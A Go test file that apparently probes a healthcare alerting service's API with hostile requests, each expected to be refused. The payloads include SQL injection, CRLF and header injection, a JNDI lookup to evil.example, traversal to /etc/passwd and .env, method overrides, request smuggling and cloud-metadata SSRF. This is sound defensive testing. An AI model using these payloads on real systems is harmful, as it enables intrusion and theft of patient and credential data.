package main

import (
	"fmt"
	"net/url"
	"slices"
	"strings"
)

// injected brings line breaks, escapes and other hosts along.
func (a *arena) injected() (all []attack) {
	const line = "%0d%0aX-Injected:%20yes"
	for _, path := range []string{
		"/api/departments/" + line + "/alerts", "/api/alerts/" + line + "/plan", "/api/alerts/%1b%5b31m/plan", "/api/alerts/%00/plan", "/api/departments/%e2%80%ae/alerts", "/api/departments/%ff%fe/alerts",
		"/api/departments/%27%20OR%201%3d1--/alerts", "/api/alerts/%3cscript%3e/plan", "/api/alerts/%24%7bjndi:ldap:%2f%2fevil.example%7d/plan", "/api/alerts/{{7*7}}/plan",
	} {
		all = append(all, attack{class: "injection", what: path, method: "GET", path: path, as: "demo-clinician-RQW", want: "403 404"})
	}
	for _, path := range []string{"/fhir/CarePlan/" + line, "/fhir/CarePlan/%27%3bDROP%20TABLE%20plan--", "/fhir/CarePlan?_lastUpdated=%27%20OR%201=1", "/fhir/CarePlan?_count=-1", "/fhir/CarePlan?page=" + url.QueryEscape("../../x")} {
		all = append(all, attack{class: "injection", what: path, method: "GET", path: path, as: "demo-centre-RJZ", headers: []string{"Prefer", "handling=strict"}, want: "400 403 404 410"})
	}
	for _, headers := range [][]string{
		{"User-Agent", "\x1b[2Jevil"}, {"X-Forwarded-For", "127.0.0.1"}, {"X-Forwarded-Host", "evil.example"}, {"X-Original-URL", "/healthz"}, {"X-Rewrite-URL", "/healthz"}, {"Forwarded", "for=127.0.0.1;host=evil.example"},
		{"X-Remote-User", "boss"}, {"X-Forwarded-User", "boss"}, {"Remote-User", "boss"}, {"X-Forwarded-Proto", "https"},
	} {
		all = append(all, attack{class: "injection", what: headers[0], method: "GET", path: "/api/people", headers: headers, want: "400 401"})
	}
	for _, body := range []string{`{"name":"x\r\nSet-Cookie: a=b","password":"x","code":"1","x":1}`, `{"name":"\u001b[31m","password":"x","code":"1","x":1}`, "{\"name\":\"\xff\",\"x\":1}", `{"name":"x","name":"y","x":1}`} {
		all = append(all, attack{class: "injection", what: body, method: "POST", path: "/api/sign-in", body: body, want: "400 422"})
	}
	return all
}

// paths are ways of writing an address that might be another.
func (a *arena) paths() (all []attack) {
	for _, path := range []string{
		"/api/../api/people", "//api/people", "/api//people", "/./api/people", "/api/people/", "/api/people/.", "/api/people/..", "/API/people", "/api/%70eople", "/api%2fpeople", "/%61pi/people", "/api/people;a=b", "/api/people%00",
		"/api/people%20", "/api/people%2e", "/api\\people", "/api/people%23", "/api/%2e%2e/api/people", "/healthz/../api/people", "/assets/../api/people", "/healthz/..%2fapi/people", "/board/../api/people",
		"/assets/../../../etc/passwd", "/assets/..%2f..%2f..%2fetc%2fpasswd", "/assets/%2e%2e/%2e%2e/etc/passwd", "/assets/....//....//etc/passwd", "/assets/..%5c..%5cetc%5cpasswd", "/assets/%252e%252e%252fetc%252fpasswd",
		"/assets//etc/passwd", "/assets/%2fetc%2fpasswd", "/assets/README", "/docs/..%2f..%2fgo.mod", "/docs/%2e%2e", "/docs/../ucpalert.yaml", "/ucpalert.yaml", "/data/ucpalert.db", "/.git/config", "/.env", "/debug/pprof/", "/debug/vars",
		"/fhir/../api/people", "/fhir/CarePlan/..%2f..%2fapi%2fpeople", "/fhir/CarePlan/%2e%2e", "/stream/../api/people", "/*", "/api/people?/../healthz", "/\uff0fapi/people", "/api/people/%c0%ae%c0%ae/",
	} {
		of := attack{class: "path", what: path, method: "GET", path: path, want: "301 307 308 400 401 404 405"}
		all = append(all, of)
	}
	return all
}

// overridden asks for one method and means another.
func (a *arena) overridden() (all []attack) {
	ack := "/api/alerts/" + a.harlow + "/acknowledgement"
	for _, row := range []attack{
		{what: "X-HTTP-Method-Override", method: "GET", path: ack, headers: []string{"X-HTTP-Method-Override", "POST"}},
		{what: "X-HTTP-Method", method: "GET", path: ack, headers: []string{"X-HTTP-Method", "POST"}},
		{what: "X-Method-Override", method: "GET", path: ack, headers: []string{"X-Method-Override", "POST"}},
		{what: "_method in the address", method: "GET", path: ack + "?_method=POST"},
		{what: "HEAD of a change", method: "HEAD", path: ack},
		{what: "a small post", method: "post", path: ack},
		{what: "a method of one's own", method: "ACKNOWLEDGE", path: ack},
		{what: "TRACE", method: "TRACE", path: "/api/session"},
		{what: "PATCH of a person", method: "PATCH", path: "/api/people", body: `{"role":"administrator"}`},
		{what: "DELETE of a plan", method: "DELETE", path: "/fhir/CarePlan/plan-1"},
		{what: "PATCH of a plan", method: "PATCH", path: "/fhir/CarePlan/plan-1", body: `{"status":"revoked"}`},
		{what: "PROPFIND", method: "PROPFIND", path: "/"},
	} {
		row.class, row.as, row.want = "method", "demo-clinician-RQW", "400 405"
		all = append(all, row)
	}
	return all
}

// oversized sends more than is read, or deeper than is read.
func (a *arena) oversized() (all []attack) {
	long := strings.Repeat("x", 1<<20)
	deep := strings.Repeat("[", 100_000) + strings.Repeat("]", 100_000)
	for _, row := range []struct{ as, path string }{
		{"", "/api/sign-in"}, {"", "/api/invitation"}, {"", "/api/invitation/acceptance"}, {"", "/api/wall-claims"}, {"", "/oauth/token"}, {"demo-administrator", "/api/people"},
		{"demo-centre-RP4", "/fhir/CarePlan"}, {"demo-centre-RP4", "/fhir"}, {"demo-hospital-RQW", "/fhir/Encounter"}, {"demo-hospital-RQW", "/fhir/$process-message"}, {"demo-clinician-RQW", "/api/alerts/" + a.harlow + "/questions"},
	} {
		headers := []string{}
		if row.path == "/oauth/token" {
			headers = formType
		}
		all = append(all,
			attack{class: "size", what: "a long body to " + row.path, method: "POST", path: row.path, as: row.as, headers: headers, body: `{"name":"` + long + `"}`, want: "400 413"},
			attack{class: "size", what: "a deep body to " + row.path, method: "POST", path: row.path, as: row.as, headers: headers, body: `{"resourceType":"CarePlan","name":` + deep + `}`, want: "400 413 422"})
	}
	return append(all,
		attack{class: "size", what: "long headers", method: "GET", path: "/healthz", headers: []string{"X-Long", strings.Repeat("x", 64<<10)}, want: "431"},
		attack{class: "size", what: "a long address", method: "GET", path: "/healthz?" + strings.Repeat("x", 64<<10), want: "414 431"},
		attack{class: "size", what: "a body that is packed", method: "POST", path: "/fhir/CarePlan", as: "demo-centre-RP4", headers: []string{"Content-Encoding", "gzip"}, body: "\x1f\x8b\x08", want: "415"},
		attack{class: "size", what: "numbers without end", method: "POST", path: "/fhir/CarePlan", as: "demo-centre-RP4", body: `{"resourceType":"CarePlan","x":1e999999999}`, want: "400 422"})
}

// wire sends what is no request, or two at once. It returns how many were tried.
func (a *arena) wire() int {
	host := "Host: " + a.address + "\r\nConnection: close\r\n"
	rows := []struct{ what, text string }{
		{"two lengths", "POST /api/sign-in HTTP/1.1\r\n" + host + "Content-Length: 3\r\nContent-Length: 4\r\n\r\nabcd"},
		{"a length that is none", "POST /api/sign-in HTTP/1.1\r\n" + host + "Content-Length: +3\r\n\r\nabc"},
		{"an encoding that nobody knows", "POST /api/sign-in HTTP/1.1\r\n" + host + "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n"},
		{"two encodings", "POST /api/sign-in HTTP/1.1\r\n" + host + "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n"},
		{"a part of a length that is none", "POST /api/sign-in HTTP/1.1\r\n" + host + "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n"},
		{"a part that breaks off after a whole value", "POST /api/sign-in HTTP/1.1\r\n" + host + "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}\r\nzz\r\n"},
		{"a blank before the colon", "GET /api/people HTTP/1.1\r\n" + host + "Authorization : Bearer demo-administrator\r\n\r\n"},
		{"a line that goes on", "GET /api/people HTTP/1.1\r\n" + host + "Authorization: Bearer\r\n wrong\r\n\r\n"},
		{"a NUL in a header", "GET /api/people HTTP/1.1\r\n" + host + "X-Test: a\x00b\r\n\r\n"},
		{"a bare CR in a header", "GET /api/people HTTP/1.1\r\n" + host + "X-Test: a\rX-Injected: b\r\n\r\n"},
		{"no host", "GET /api/people HTTP/1.1\r\nConnection: close\r\n\r\n"},
		{"two hosts", "GET /api/people HTTP/1.1\r\nHost: evil.example\r\n" + host + "\r\n"},
		{"a host that is none", "GET /api/people HTTP/1.1\r\nHost: a b\r\nConnection: close\r\n\r\n"},
		{"another host", "GET /api/people HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n"},
		{"an address elsewhere", "GET http://169.254.169.254/api/people HTTP/1.1\r\n" + host + "\r\n"},
		{"a tunnel", "CONNECT 169.254.169.254:80 HTTP/1.1\r\n" + host + "\r\n"},
		{"HTTP of no version", "GET /api/people\r\n\r\n"},
		{"HTTP of another version", "GET /api/people HTTP/9.9\r\n" + host + "\r\n"},
		{"the preface of HTTP/2", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"},
		{"a second request in the first's body", "GET /api/people HTTP/1.1\r\n" + host + "Content-Length: 46\r\n\r\nGET /api/people HTTP/1.1\r\nHost: localhost\r\n\r\n"},
		{"HL7", "\x0bMSH|^~\\&|PAS|RQW|UCPALERT|UCPALERT\r\x1c\r"},
		{"TLS in the clear", "\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00"},
	}
	for _, row := range rows {
		status, body, header := a.raw(row.text)
		refused := []string{"0", "400", "401", "404", "405", "431", "501", "505"}
		if !slices.Contains(refused, fmt.Sprint(status)) {
			a.t.Errorf("%s: answered %d: %.200s", row.what, status, body)
		}
		a.judged(attack{class: "wire", what: row.what, want: fmt.Sprint(status)}, status, body, header)
	}
	return len(rows)
}
